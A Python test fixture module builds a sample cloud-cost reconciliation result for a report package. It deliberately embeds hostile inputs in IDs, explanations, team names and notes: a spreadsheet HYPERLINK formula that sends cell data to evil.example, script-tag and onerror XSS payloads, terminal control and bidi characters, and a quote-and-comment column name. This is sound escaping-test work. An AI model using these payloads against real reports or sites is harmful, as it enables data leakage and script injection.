"""A realistic result of October 2026, made without the core, hostile texts included."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pyarrow as pa
import pytest

from trueup.model import schema
from trueup.model.dataset import Dataset
from trueup.model.outcome import Outcome
from trueup.model.table import Table
from trueup.report.result import Result

START = datetime(2026, 10, 1, tzinfo=UTC)
END = datetime(2026, 11, 1, tzinfo=UTC)
AS_OF = datetime(2026, 11, 3, 6, 0, tzinfo=UTC)
HOUR = timedelta(hours=1)
DAY = timedelta(days=1)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">"
CONTROL = "tool\x1b[31m\x00red\x07\u202eevil"
LONG = "arn:cloud:sagemaker:eu-west-1:123456789012:endpoint/" + "inference-endpoint-" * 30 + "end"

PLAN = "arn:cloud:savingsplans::123456789012:savingsplan/5f8e1c2a-77aa-4c1b-9a55-0d1f2e3a4b5c"
RESERVATION = "/providers/Capacity/reservationOrders/9c1d/reservations/gpu-h100-weu"
SPEND = "cud-spend-europe-west4"
PTU = "ptu-large-language-300"
DAILY = "throughput-daily-eur"
LOT = "universal-credits-2026"
TPU = "tpu-v6e-sales-contract"
AGREEMENT = "enterprise-agreement-2026"
UNKNOWN_PLAN = "plan-without-unused-rows"


def words(text: str) -> list[str]:
    return text.split()


FOCUS_1_4 = words(
    """AllocatedMethodDetails AllocatedMethodId AllocatedResourceId AllocatedResourceName
AllocatedTags AvailabilityZone BilledCost BillingAccountId BillingAccountName BillingAccountType
BillingCurrency BillingPeriodEnd BillingPeriodStart CapacityReservationId CapacityReservationStatus
ChargeCategory ChargeClass ChargeDescription ChargeFrequency ChargePeriodEnd ChargePeriodStart
CommitmentDiscountCategory CommitmentDiscountId CommitmentDiscountName CommitmentDiscountQuantity
CommitmentDiscountStatus CommitmentDiscountType CommitmentDiscountUnit
CommitmentProgramEligibilityDetails ConsumedQuantity ConsumedUnit ContractApplied ContractedCost
ContractedUnitPrice EffectiveCost HostProviderName InvoiceDetailId InvoiceId InvoiceIssuerName
ListCost ListUnitPrice PricingCategory PricingCurrency PricingCurrencyContractedUnitPrice
PricingCurrencyEffectiveCost PricingCurrencyListUnitPrice PricingQuantity PricingUnit RegionId
RegionName ResourceId ResourceName ResourceType ServiceCategory ServiceName ServiceProviderName
ServiceSubcategory SkuId SkuMeter SkuPriceDetails SkuPriceId SubAccountId SubAccountName
SubAccountType Tags"""
)
FOCUS_DECIMALS = words(
    """BilledCost ContractedCost EffectiveCost ListCost PricingQuantity
ConsumedQuantity CommitmentDiscountQuantity ContractedUnitPrice ListUnitPrice
PricingCurrencyEffectiveCost PricingCurrencyContractedUnitPrice
PricingCurrencyListUnitPrice"""
)
FOCUS_INSTANTS = words("BillingPeriodStart BillingPeriodEnd ChargePeriodStart ChargePeriodEnd")
COMMITMENT_1_4 = words(
    """BillingCurrency ContractCommitmentApplicability
ContractCommitmentBenefitCategory ContractCommitmentCategory ContractCommitmentCost
ContractCommitmentCreated ContractCommitmentDescription ContractCommitmentDiscountPercentage
ContractCommitmentDurationType ContractCommitmentFulfillmentInterval ContractCommitmentId
ContractCommitmentLastUpdated ContractCommitmentLifecycleStatus ContractCommitmentModel
ContractCommitmentOfferCategory ContractCommitmentPaymentInterval ContractCommitmentPaymentModel
ContractCommitmentPaymentUpfrontPercentage ContractCommitmentPeriodEnd
ContractCommitmentPeriodStart ContractCommitmentQuantity ContractCommitmentType
ContractCommitmentUnit ContractId ContractPeriodEnd ContractPeriodStart InvoiceIssuerName
PricingCurrency PricingCurrencyContractCommitmentCost ServiceProviderName"""
)


def dec(value: str | int) -> Decimal:
    return Decimal(value)


def hourly_share(hour: int) -> Decimal:
    """Share of an hour's commitment that is used: full on working hours, dips at night and once."""
    day, of_day = divmod(hour, 24)
    if day == 17:
        return dec("0.20")  # an outage on the 18th
    if day % 7 in (2, 3):  # 3 October 2026 is a Saturday
        return dec("0.70")
    return dec("0.90") if of_day < 6 else dec("1")


def hourly(
    commitment: str, provider: str, rate: str, currency: str, unit: str
) -> list[dict[str, Any]]:
    rows = []
    for hour in range(31 * 24):
        used = dec(rate) * hourly_share(hour)
        rows.append(
            {
                "commitment_id": commitment,
                "provider": provider,
                "interval_start": START + hour * HOUR,
                "interval_end": START + (hour + 1) * HOUR,
                "unit": unit,
                "committed_quantity": dec(rate),
                "used_quantity": used,
                "unused_quantity": dec(rate) - used,
                "overage_quantity": dec(0),
                "currency": currency,
                "committed_cost": dec(rate),
                "used_cost": used,
                "unused_cost": dec(rate) - used,
                "utilization": used / dec(rate),
                "provisional": True,
            }
        )
    return rows


def daily() -> list[dict[str, Any]]:
    rows = []
    for day in range(31):
        used = dec(240) if day % 5 else dec(120)
        rows.append(
            {
                "commitment_id": DAILY,
                "provider": "azure",
                "interval_start": START + day * DAY,
                "interval_end": START + (day + 1) * DAY,
                "unit": "Unit-Hours",
                "committed_quantity": dec(240),
                "used_quantity": used,
                "unused_quantity": dec(240) - used,
                "overage_quantity": dec(0),
                "currency": "EUR",
                "committed_cost": dec("480"),
                "used_cost": used * 2,
                "unused_cost": dec(480) - used * 2,
                "utilization": used / dec(240),
                "provisional": False,
            }
        )
    return rows


def unknown_hours() -> list[dict[str, Any]]:
    return [
        {
            "commitment_id": UNKNOWN_PLAN,
            "provider": "aws",
            "interval_start": START + day * DAY,
            "interval_end": START + (day + 1) * DAY,
            "unit": "USD",
            "currency": "USD",
            "used_cost": dec(0),
            "provisional": True,
            "reason": "Used rows without a quantity",
        }
        for day in range(31)
    ]


def utilization_rows() -> list[dict[str, Any]]:
    return (
        hourly(PLAN, "aws", "10.00", "USD", "USD")
        + hourly(RESERVATION, "azure", "8", "EUR", "GPU-Hours")
        + hourly(SPEND, "gcp", "4.125", "EUR", "EUR")
        + hourly(PTU, "azure", "300", "USD", "Unit-Hours")
        + daily()
        + unknown_hours()
    )


def commitment_rows(utilization: list[dict[str, Any]]) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    for name in (PLAN, RESERVATION, SPEND, PTU, DAILY):
        mine = [row for row in utilization if row["commitment_id"] == name]
        sums = {
            f"{what}_{kind}": sum((row[f"{what}_{kind}"] for row in mine), dec(0))
            for what in ("committed", "used", "unused")
            for kind in ("quantity", "cost")
        }
        used, unused = sums["used_quantity"], sums["unused_quantity"]
        rows.append(
            {
                **{key: mine[0][key] for key in ("commitment_id", "provider", "unit", "currency")},
                **sums,
                "name": f"{name[:20]} plan",
                "category": "Spend" if name in (PLAN, SPEND) else "Usage",
                "type": "Compute plan",
                "layer": "benefit",
                "quantity_basis": "commitment_rate",
                "overage_quantity": dec(0),
                "not_covered_quantity": dec(0),
                "utilization": (used / (used + unused)).quantize(dec("1e-18")),
                "status": "complete",
                "provisional": name != DAILY,
            }
        )
    rows.append(
        {
            "commitment_id": UNKNOWN_PLAN,
            "provider": "aws",
            "layer": "benefit",
            "category": "Spend",
            "unit": "USD",
            "currency": "USD",
            "used_cost": dec(0),
            "status": "partial",
            "provisional": True,
            "reason": "four Used rows without a quantity, no Unused rows: utilization is unknown",
        }
    )
    term = {"provisional": True, "status": "complete", "expired": dec(0), "category": "Spend"}
    rows += [
        {
            **term,
            "commitment_id": LOT,
            "provider": "oci",
            "layer": "funding",
            "unit": "USD",
            "currency": "USD",
            "opening": dec("61000"),
            "drawn": dec("18650.25"),
            "remaining": dec("42349.75"),
            "expires_at": datetime(2026, 12, 31, tzinfo=UTC),
        },
        {
            **term,
            "commitment_id": TPU,
            "provider": "gcp",
            "layer": "funding",
            "unit": "Credits",
            "currency": "USD",
            "opening": dec("500000"),
            "drawn": dec("120000.5"),
            "remaining": dec("379999.5"),
            "expires_at": datetime(2027, 6, 30, tzinfo=UTC),
        },
        {
            **term,
            "commitment_id": AGREEMENT,
            "provider": "aws",
            "layer": "agreement",
            "unit": "USD",
            "currency": "USD",
            "drawn": dec("91234.56"),
            "expires_at": datetime(2027, 1, 1, tzinfo=UTC),
            "reason": "the contract states no committed figure",
        },
    ]
    return rows


CLASSES = (
    "missing_in_usage",
    "quantity",
    "missing_in_billing",
    "duplicate",
    "timing",
    "commitment",
    "price",
    "balance",
    "invoice",
    "fx",
    "rounding",
    "restatement",
)


def break_rows() -> list[dict[str, Any]]:
    rows = []
    for index in range(60):
        kind = CLASSES[index % 12] if index < 24 else CLASSES[index % 6]
        negative = kind == "missing_in_billing"
        size = dec(2300 - index * 37) / (1 if index % 3 else 8)
        amount = dec(0) if kind == "timing" else -size if negative else size
        at = START + (index * 11 % 700) * HOUR
        rows.append(
            {
                "id": f"brk_{index:04d}a9f3c2",
                "class": kind,
                "leg": "commitment" if kind == "commitment" else "usage",
                "provider": ("aws", "azure", "gcp", "oci")[index % 4],
                "commitment_id": PLAN if kind == "commitment" else None,
                "account_id": f"1234567890{index % 7:02d}",
                "region_id": "eu-west-1",
                "resource_id": None if index % 4 == 1 else f"endpoint/e{index}",
                "model": "claude-sonnet-4-5" if index % 4 == 1 else None,
                "meter": "output_tokens" if index % 4 == 1 else "gpu",
                "period_start": at,
                "period_end": at + HOUR,
                "billed": dec(0) if negative else dec("2.5") + index,
                "expected": dec("1.000000000000000001"),
                "unit": "GPU-Hours",
                "amount": None if index in (7, 19) else amount,
                "currency": None if index == 19 else "EUR" if index % 5 == 0 else "USD",
                "priced_by": None if index in (7, 19) else "bill",
                "rule": "resource, meter, hour",
                "rows_billed": 1,
                "rows_metered": 12,
                "explanation": f"Billed {index + 2}.5 GPU-Hours, metered 1: {kind}.",
            }
        )
    rows[0] |= {"resource_id": FORMULA, "explanation": FORMULA, "account_id": "@SUM(A1)"}
    rows[1] |= {"resource_id": SCRIPT, "explanation": SCRIPT, "model": "+1-2"}
    rows[3] |= {"resource_id": LONG, "explanation": "Charged twice: " + LONG}
    rows[4] |= {"resource_id": CONTROL, "explanation": CONTROL}
    return rows


def allocation_rows() -> list[dict[str, Any]]:
    teams = ("search", "support bots", "data platform", "research", "billing", None)
    rows = []
    for index in range(180):
        team = teams[index % 6]
        rows.append(
            {
                "session": f"session-{index:05d}",
                "agent": SCRIPT if index == 5 else f"agent-{index % 11}",
                "tool": CONTROL if index == 9 else f"tool-{index % 4}",
                "team": FORMULA if index == 7 else team,
                "cost_centre": f"CC-{index % 9}",
                "provider": ("aws", "azure", "gcp", "oci")[index % 4],
                "model": "claude-sonnet-4-5",
                "currency": "EUR" if index % 3 == 0 else "USD",
                "cost": dec(10000 - index * 17) / 64 + dec("0.000000000000000001"),
            }
        )
    return rows


def unattributed_rows() -> list[dict[str, Any]]:
    usd = {
        "idle": "1210.40",
        "missing_in_usage": "3120.55",
        "tax": "1900.00",
        "credit": "-250.00",
        "support": "400.00",
        "no_rule": "88.123456",
        "rounding": "0.004",
    }
    eur = {"unverified_capacity": "742.10", "tax": "310.20", "marketplace": "65.00"}
    return [
        {"currency": code, "reason": reason, "cost": dec(cost), "billed_cost": dec(cost), "rows": 7}
        for code, costs in (("USD", usd), ("EUR", eur))
        for reason, cost in costs.items()
    ]


def identity_rows(tables: dict[str, list[dict[str, Any]]]) -> list[dict[str, Any]]:
    rows = []
    for code in ("EUR", "USD"):
        allocated = sum((r["cost"] for r in tables["allocations"] if r["currency"] == code), dec(0))
        unattributed = sum(
            (r["cost"] for r in tables["unattributed_by_reason"] if r["currency"] == code), dec(0)
        )
        unused = sum(
            (
                r["unused_cost"] or dec(0)
                for r in tables["commitments"]
                if r["currency"] == code and r.get("unused_cost") is not None
            ),
            dec(0),
        )
        rows.append(
            {
                "currency": code,
                "billed": allocated + unused + unattributed,
                "allocated": allocated,
                "unused": unused,
                "unattributed": unattributed,
                "difference": dec(0),
            }
        )
    return rows


def burn_down_rows() -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    for day in range(31):
        at = START + day * DAY
        share = sum(hourly_share(day * 24 + hour) for hour in range(24))
        for name, provider, rate, unit in (
            (PLAN, "aws", "10", "USD"),
            (RESERVATION, "azure", "8", "GPU-Hours"),
            (SPEND, "gcp", "4.125", "EUR"),
            (PTU, "azure", "300", "Unit-Hours"),
        ):
            used = dec(rate) * share
            rows.append(
                {
                    "commitment_id": name,
                    "provider": provider,
                    "day": at,
                    "unit": unit,
                    "committed_quantity": dec(rate) * 24,
                    "used_quantity": used,
                    "unused_quantity": dec(rate) * 24 - used,
                }
            )
        rows.append(
            {
                "commitment_id": LOT,
                "provider": "oci",
                "day": at,
                "unit": "USD",
                "used_quantity": dec(600),
                "remaining": dec(61000) - 600 * (day + 1),
            }
        )
        rows.append(
            {
                "commitment_id": TPU,
                "provider": "gcp",
                "day": at,
                "unit": "Credits",
                "used_quantity": dec(3871),
                "remaining": dec(500000) - 3871 * (day + 1),
            }
        )
    return rows


def credit_rows() -> list[dict[str, Any]]:
    return [
        {
            "lot_id": LOT,
            "commitment_id": LOT,
            "provider": "oci",
            "unit": "USD",
            "granted": dec(120000),
            "drawn": dec("77650.25"),
            "expired": dec(0),
            "remaining": dec("42349.75"),
            "expires_at": datetime(2026, 12, 31, tzinfo=UTC),
            "currency": "USD",
        },
        {
            "lot_id": TPU,
            "commitment_id": TPU,
            "provider": "gcp",
            "unit": "Credits",
            "granted": dec(600000),
            "drawn": dec("220000.5"),
            "expired": dec(0),
            "remaining": dec("379999.5"),
            "expires_at": datetime(2027, 6, 30, tzinfo=UTC),
            "compute_unit": "TPU-Chip-Hours",
            "compute_units_per_credit": dec("0.5"),
            "cost_per_credit": dec("1.35"),
            "currency": "USD",
        },
        {
            "lot_id": "promo-2025",
            "provider": "gcp",
            "unit": "EUR",
            "granted": dec(5000),
            "expires_at": datetime(2026, 11, 30, tzinfo=UTC),
            "currency": "EUR",
        },
    ]


def source_rows() -> list[dict[str, Any]]:
    files = [
        ("bills/aws-2026-10.parquet", "charges", "focus-1.2", 120000, 3),
        ("bills/azure-2026-10.csv.gz", "charges", "focus-1.0", 48211, 0),
        ("bills/gcp-2026-10.csv", "charges", "focus-1.4", 30117, 1412),
        ("contracts.csv", "commitments", "focus-commitment-1.4", 8, 0),
        (
            "spans/2026-10/" + "very-long-folder-name/" * 6 + "spans.jsonl.zst",
            "usage",
            "otlp-traces",
            2405118,
            12,
        ),
    ]
    return [
        {
            "source_id": number,
            "source": source,
            "kind": kind,
            "format": form,
            "sha256": f"{number:x}" * 64,
            "size_bytes": 1024 * rows,
            "rows_in": rows,
            "accepted": rows - rejected,
            "rejected": rejected,
            "note": "read as daily bill" if number == 2 else None,
        }
        for number, (source, kind, form, rows, rejected) in enumerate(files, start=1)
    ]


def reject_rows(sources: list[dict[str, Any]]) -> list[dict[str, Any]]:
    rows = []
    for source in sources:
        for index in range(source["rejected"]):
            hostile = index == 0
            rows.append(
                {
                    "source_id": source["source_id"],
                    "source": source["source"],
                    "row_number": 5 + index * 3,
                    "column": SCRIPT if hostile else "EffectiveCost",
                    "reason": "more than 18 decimals" if index % 2 else "not a number",
                    "value": FORMULA if hostile else "0.1234567890123456789",
                    "currency": "USD" if index % 2 else None,
                }
            )
    return rows


def tables() -> dict[str, list[dict[str, Any]]]:
    made: dict[str, list[dict[str, Any]]] = {"utilization": utilization_rows()}
    made["commitments"] = commitment_rows(made["utilization"])
    made["breaks"] = break_rows()
    made["pending"] = [
        {
            "provider": "gcp",
            "account_id": "p-1",
            "resource_id": "endpoint/e3",
            "meter": "gpu",
            "period_start": END - (index + 1) * HOUR,
            "period_end": END - index * HOUR,
            "expected": dec("1"),
            "unit": "GPU-Hours",
            "amount": None if index == 4 else dec("4.00"),
            "currency": "USD",
            "expected_by": END + DAY * 3 - index * HOUR,
            "rows_metered": 12,
        }
        for index in range(14)
    ]
    made["allocations"] = allocation_rows()
    made["credits"] = credit_rows()
    made["unattributed_by_reason"] = unattributed_rows()
    made["identity"] = identity_rows(made)
    made["billed_identity"] = [
        {
            "currency": code,
            "billed": dec("900.5"),
            "compared": dec("800.25"),
            "unused": dec(0),
            "not_compared": dec("100.25"),
            "difference": dec(0),
        }
        for code in ("EUR", "USD")
    ]
    made["straddling"] = [
        {
            "source_id": 2,
            "source_row": 17,
            "period_start": END - 2 * HOUR,
            "period_end": END + HOUR,
            "currency": "EUR",
            "effective_cost": dec(3),
            "effective_cost_in_period": dec(2),
        }
    ]
    made["sources"] = source_rows()
    made["rejects"] = reject_rows(made["sources"])
    made["control_totals"] = [
        {
            "source": row["source"],
            "kind": row["kind"],
            "rows_in": row["rows_in"],
            "accepted": row["accepted"],
            "rejected": row["rejected"],
            "currency": ("USD", "EUR", "EUR", None, None)[index],
            "billed_cost": dec("43210.987654321") if index < 3 else None,
            "effective_cost": dec("45678.000000000000000001") if index < 3 else None,
        }
        for index, row in enumerate(made["sources"])
    ]
    made["buckets"] = [
        {"side": side, "bucket": bucket, "reason": reason, "rows": rows}
        for side, bucket, reason, rows in (
            ("billed", "matched", None, 150000),
            ("billed", "break", "missing_in_usage", 812),
            ("billed", "out_of_scope", "tax", 40101),
            ("metered", "matched", None, 2400000),
            ("metered", "pending", None, 14),
            ("metered", "break", "missing_in_billing", 5104),
        )
    ]
    made["burn_down"] = burn_down_rows()
    made["notes"] = [
        {
            "code": "utilization_unknown",
            "subject": UNKNOWN_PLAN,
            "text": "Its four Used rows carry no quantity and there are no Unused rows.",
            "remedy": "Ask for an export of FOCUS 1.1 or later.",
        },
        {"code": "split_rows", "subject": SCRIPT, "text": CONTROL, "remedy": FORMULA},
    ]
    return made


def table_of(name: str, rows: list[dict[str, Any]]) -> Table:
    return Table.from_rows(schema.RESULT_TABLES[name], rows)


def charges_schema() -> pa.Schema:
    def kind(name: str) -> pa.DataType:
        if name in FOCUS_DECIMALS:
            return schema.AMOUNT
        return schema.INSTANT if name in FOCUS_INSTANTS else schema.TEXT

    fields = [pa.field(name, kind(name)) for name in FOCUS_1_4]
    fields += [
        pa.field("x_Provider", schema.TEXT),
        pa.field("x_PublisherName", schema.TEXT),
        pa.field("x_SourceId", pa.int32()),
        pa.field("x_SourceRow", pa.int64()),
        pa.field("x_ChargeId", pa.int64()),
        pa.field('x_odd "name"; --', schema.TEXT),
    ]
    return pa.schema(fields)


def charges() -> Dataset:
    rows = [
        {
            "BillingCurrency": "USD",
            "BilledCost": dec("1.5"),
            "EffectiveCost": dec("1.25"),
            "ListCost": dec("2"),
            "ChargeCategory": "Usage",
            "ServiceProviderName": "Example Cloud",
            "ChargePeriodStart": START + index * HOUR,
            "ChargePeriodEnd": START + (index + 1) * HOUR,
            "x_Provider": "example",
            "x_SourceId": 1,
            "x_SourceRow": index + 1,
            "x_ChargeId": index + 1,
            'x_odd "name"; --': FORMULA,
        }
        for index in range(5)
    ]
    empty = table_of("rejects", [])
    return Dataset(
        "charges", Table.from_rows(charges_schema(), rows), table_of("sources", []), empty
    )


def contracts() -> Dataset:
    def kind(name: str) -> pa.DataType:
        if name.endswith(("Cost", "Quantity", "Percentage")):
            return schema.AMOUNT
        instant = name.endswith(("Start", "End", "Created", "LastUpdated"))
        return schema.INSTANT if instant else schema.TEXT

    fields = [pa.field(name, kind(name)) for name in COMMITMENT_1_4]
    fields += [pa.field("x_Provider", schema.TEXT), pa.field("x_Layer", schema.TEXT)]
    rows = [
        {
            "ContractId": "C-1",
            "ContractCommitmentId": PLAN,
            "BillingCurrency": "USD",
            "ContractCommitmentQuantity": dec(10),
            "ContractCommitmentPeriodStart": START,
            "x_Layer": "benefit",
            "x_Provider": "example",
        }
    ]
    table = Table.from_rows(pa.schema(fields), rows)
    return Dataset("commitments", table, table_of("sources", []), table_of("rejects", []))


def make_outcome(**changed: list[dict[str, Any]]) -> Outcome:
    """The sample outcome, any table replaced by the given rows."""
    rows = tables() | changed
    return Outcome(
        start=START,
        end=END,
        as_of=AS_OF,
        tables={name: table_of(name, rows[name]) for name in schema.RESULT_TABLES},
        charges=charges(),
        commitments=contracts(),
        usage=charges(),
    )


def empty_outcome() -> Outcome:
    """A run in which nothing was found and only charges were given."""
    full = make_outcome(**{name: [] for name in schema.RESULT_TABLES})
    return replace(full, commitments=None, usage=None)


@pytest.fixture(scope="session")
def result() -> Result:
    return Result(make_outcome())


@pytest.fixture(scope="session")
def empty_result() -> Result:
    return Result(empty_outcome())
